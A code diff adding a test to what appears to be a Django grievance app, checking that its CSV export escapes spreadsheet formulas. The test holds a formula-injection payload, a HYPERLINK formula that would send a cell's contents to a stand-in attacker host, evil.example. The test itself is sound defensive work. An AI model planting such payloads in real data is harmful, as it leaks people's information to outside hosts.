@@ -94,3 +94,13 @@ def test_asking_without_a_purpose_shows_nothing(client, submit, cast):
     assert all(PHONE not in r.content.decode() for r in (page, api, export))
     assert "purpose" in api.json()["errors"]
     assert not AuditLog.objects.filter(action__endswith="_personal").exists()
+
+
+def test_an_export_never_hands_a_spreadsheet_a_formula(client, submit, cast):
+    submit(reporter_name='=HYPERLINK("http://evil.example/?"&A1,"点我")')
+    client.login(username="staff", password=PASSWORD)
+
+    export = client.post("/grievances/workbench/export.csv?state=all", {"purpose": "callback"}).content.decode()
+
+    assert "'=HYPERLINK(" in export
+    assert ",=HYPERLINK(" not in export
